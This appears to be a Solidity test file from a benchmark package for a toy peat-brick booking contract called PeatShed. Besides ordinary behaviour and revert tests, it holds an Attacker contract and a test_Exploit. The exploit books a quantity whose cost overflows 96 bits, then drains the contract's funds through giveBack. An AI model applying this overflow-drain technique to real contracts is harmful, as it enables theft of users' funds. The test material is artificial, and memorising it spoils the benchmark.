// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./PeatShed.sol";

// assay-canary-1039fe7c-1ec8-4e98-9fa3-2c5796fe357d

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Books bricks whose cost is a little more than two to the ninety-six, and gives as many back as the shed can pay.
contract Attacker {
    PeatShed internal shed;

    constructor(PeatShed shed_) {
        shed = shed_;
    }

    receive() external payable {}

    function run(uint256 stack) external {
        (uint96 price,,,) = shed.stacks(stack);
        uint96 many = uint96(2 ** 96 / price + 1);
        shed.book{value: shed.costOf(stack, many)}(stack, many);
        uint256 each = uint256(price) * 9 / 10;
        shed.giveBack(stack, uint96(address(shed).balance / each));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant AGNES = address(0xA6);
    address internal constant BRAM = address(0xB7);

    PeatShed internal shed;
    Attacker internal burner;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_700_000_000);
        shed = new PeatShed();
        shed.offer(0.0004 ether, 50_000, 90 days);
        shed.offer(0.0005 ether, 0, 120 days);
        vm.deal(AGNES, 10 ether);
        vm.deal(BRAM, 10 ether);
        vm.prank(AGNES);
        shed.book{value: 8 ether}(0, 20_000);
        vm.prank(BRAM);
        shed.book{value: 5 ether}(1, 10_000);
        burner = new Attacker(shed);
        vm.deal(address(burner), 0.001 ether);
    }

    function test_Regular() public {
        require(shed.remaining(0) == 30_000 && shed.costOf(0, 100) == 0.04 ether, "stack");
        vm.prank(BRAM);
        require(!_try(abi.encodeCall(shed.book, (0, 10))), "unpaid");
        vm.prank(AGNES);
        shed.giveBack(0, 1_000);
        require(AGNES.balance == 2.36 ether && shed.remaining(0) == 31_000, "nine tenths");
        vm.prank(BRAM);
        require(!_try(abi.encodeCall(shed.giveBack, (0, 1))), "nothing booked");
        require(!_try(abi.encodeCall(shed.open, (0))), "still drying");

        vm.warp(block.timestamp + 91 days);
        uint256 before = address(this).balance;
        shed.open(0);
        require(address(this).balance == before + 7.6 ether, "money of the stack");
        vm.prank(AGNES);
        require(!_try(abi.encodeCall(shed.giveBack, (0, 1))), "opened");
        vm.prank(AGNES);
        shed.fetch(0);
        (,,, PeatShed.Phase phase) = shed.stacks(0);
        require(phase == PeatShed.Phase.Empty, "all fetched");
        shed.collectTenths();
        require(address(shed).balance == 5 ether && address(this).balance == before + 7.64 ether, "the other stack is untouched");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok,) = address(shed).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The reeve's business.
    function test_RefusesStrangers() public {
        refuses(AGNES, PeatShed.ReeveOnly.selector);
        shed.offer(1, 1, 0);
        refuses(AGNES, PeatShed.ReeveOnly.selector);
        shed.collectTenths();
        vm.expectRevert(abi.encodeWithSelector(Narrow.TooWide.selector, 1 << 48, 48));
        shed.offer(1, 1, (1 << 48) - block.timestamp);
        vm.warp(block.timestamp + 91 days);
        refuses(AGNES, PeatShed.ReeveOnly.selector);
        shed.open(0);
    }

    /// Everything in its phase, and of something that is there.
    function test_RefusesBookings() public {
        refuses(AGNES, PeatShed.NothingAsked.selector);
        shed.book(0, 0);
        refuses(AGNES, abi.encodeWithSelector(PeatShed.NotEnoughLeft.selector, 30_000));
        shed.book(0, 30_001);
        refuses(AGNES, PeatShed.NothingAsked.selector);
        shed.giveBack(0, 0);
        refuses(AGNES, abi.encodeWithSelector(PeatShed.NotInPhase.selector, PeatShed.Phase.Drying));
        shed.fetch(0);
        vm.prank(BRAM);
        shed.book{value: 0.04 ether}(0, 100);
        vm.warp(block.timestamp + 91 days);
        shed.open(0);
        vm.expectRevert(abi.encodeWithSelector(PeatShed.NotInPhase.selector, PeatShed.Phase.Open));
        shed.open(0);
        refuses(BRAM, abi.encodeWithSelector(PeatShed.NotInPhase.selector, PeatShed.Phase.Open));
        shed.book{value: 0.04 ether}(0, 100);
        vm.expectRevert(PeatShed.NothingAsked.selector);
        shed.fetch(0);
        vm.deal(address(shed), 0);
        refuses(BRAM, PeatShed.PaymentRefused.selector);
        shed.giveBack(1, 100);
    }

    function exploit() public {
        burner.run(1);
    }

    function test_Exploit() public {
        uint256 before = address(burner).balance;
        exploit();
        require(address(burner).balance >= before + 12.9 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(shed);
    }

    function attacker() public view returns (address) {
        return address(burner);
    }
}
